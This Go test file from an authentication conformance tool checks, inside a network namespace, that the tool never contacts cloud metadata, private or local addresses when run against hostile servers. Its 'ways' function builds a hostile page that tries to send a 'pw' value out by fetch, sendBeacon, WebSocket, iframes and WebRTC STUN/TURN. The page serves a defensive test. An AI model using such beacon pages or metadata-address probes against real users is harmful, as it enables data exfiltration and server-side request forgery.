package main

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/authconform/authconform/internal/exit"
)

// inNamespace tells the test that it runs in its own network namespace.
const inNamespace = "AUTHCONFORM_TEST_NAMESPACE"

// TestNothingIsReachedButWhatWasNamed runs the tests of nothingElse in a network namespace. They listen at addresses that nobody
// may contact: cloud metadata services, a private network, another port of this machine.
func TestNothingIsReachedButWhatWasNamed(t *testing.T) {
	slow(t)
	if os.Getenv(inNamespace) != "" {
		nothingElse(t)
		return
	}
	for _, tool := range []string{"unshare", "ip"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip(err)
		}
	}
	if os.Geteuid() != 0 || exec.CommandContext(t.Context(), "unshare", "-n", "true").Run() != nil {
		t.Skip("a network namespace needs root")
	}
	cmd := exec.CommandContext(t.Context(), "unshare", "-n", "sh", "-ec", `
		ip link set lo up
		for a in 169.254.169.254/32 10.0.0.1/32; do ip addr add $a dev lo; done
		exec "$0" -test.run "^`+t.Name()+`$" -test.v`, os.Args[0])
	cmd.Env = append(os.Environ(), inNamespace+"=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Errorf("%v:\n%s", err, out)
	} else if testing.Verbose() {
		t.Logf("%s", out)
	}
}

// ear listens with TCP and UDP at an address that nobody may contact.
type ear struct {
	at    string
	heard atomic.Int64
}

func listenAt(t *testing.T, address string) *ear {
	t.Helper()
	l, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	e := &ear{at: l.Addr().String()}
	u, err := (&net.ListenConfig{}).ListenPacket(t.Context(), "udp", e.at)
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{
		Handler: http.NotFoundHandler(), ReadHeaderTimeout: time.Minute,
		ConnState: func(_ net.Conn, state http.ConnState) {
			if state == http.StateNew {
				e.heard.Add(1)
			}
		},
	}
	go func() { _ = s.Serve(l) }()
	go func() {
		for buffer := make([]byte, 1500); ; e.heard.Add(1) {
			if _, _, err := u.ReadFrom(buffer); err != nil {
				return
			}
		}
	}()
	t.Cleanup(func() { _ = s.Close(); _ = u.Close() })
	return e
}

// hears is the positive control: the ear notices whoever contacts it by TCP or UDP.
func (e *ear) hears(t *testing.T) {
	t.Helper()
	for _, network := range []string{"tcp", "udp"} {
		before := e.heard.Load()
		c, err := (&net.Dialer{}).DialContext(t.Context(), network, e.at)
		if err != nil {
			t.Fatalf("nobody can reach %s: %v", e.at, err)
		}
		_, _ = fmt.Fprint(c, "hello")
		eventually(t, "whoever speaks to "+e.at+" by "+network+" is not heard", func() bool { return e.heard.Load() > before })
		_ = c.Close()
	}
	e.heard.Store(0)
}

// nothingElse judges hostile servers of each profile, and has a mock home fetch hostile pages.
func nothingElse(t *testing.T) {
	ears := []*ear{listenAt(t, "169.254.169.254:80"), listenAt(t, "10.0.0.1:80"), listenAt(t, "127.0.0.1:0")}
	for _, e := range ears {
		e.hears(t)
	}
	silent := func(t *testing.T, which ...*ear) {
		t.Helper()
		for _, e := range which {
			if n := e.heard.Swap(0); n > 0 {
				t.Errorf("%s was spoken to %d times", e.at, n)
			}
		}
	}
	for _, c := range traps(ears) {
		for profile, open := range stages() {
			if c.browser && profile == "linking" {
				continue // no row of it opens a page
			}
			t.Run(strings.ReplaceAll(c.name+" "+profile, " ", "-"), func(t *testing.T) {
				if c.browser {
					needsBrowser(t)
				}
				c.sprung.Store(0)
				target, args, env := open(t, c)
				h := under(t, "", env, append(args, "--target", target, "--profile", profile, "--request-timeout", "2s", "--timeout", "20s")...)
				if c.sprung.Load() == 0 || h.code == exit.Usage {
					t.Errorf("the trap was never met: exit %d\n%s", h.code, h.all())
				}
				silent(t, ears...)
			})
		}
	}
	t.Run("a mock home fetches client pages", func(t *testing.T) {
		fetchHostile(t, ears[0])
		silent(t, ears[0]) // the mock fetches the others, as the real home does
	})
	for _, e := range ears { // the listeners still work
		e.hears(t)
	}
}

// ways returns a page that tries every way to contact an address.
func ways(at string) string {
	return strings.ReplaceAll(`<img src="http://AT/i"><link rel="stylesheet" href="http://AT/s"><iframe src="http://AT/f"></iframe><script>
fetch("http://AT/?pw", {mode: "no-cors"}).catch(() => {});
navigator.sendBeacon("http://AT/", "pw");
try { new WebSocket("ws://AT/") } catch {}
try { window.open("http://AT/w") } catch {}
try {
  const c = new RTCPeerConnection({iceServers: [{urls: "stun:AT"}, {urls: "turn:AT?transport=udp", username: "pw", credential: "pw"}]});
  c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o));
} catch {}
</script>`, "AT", at)
}
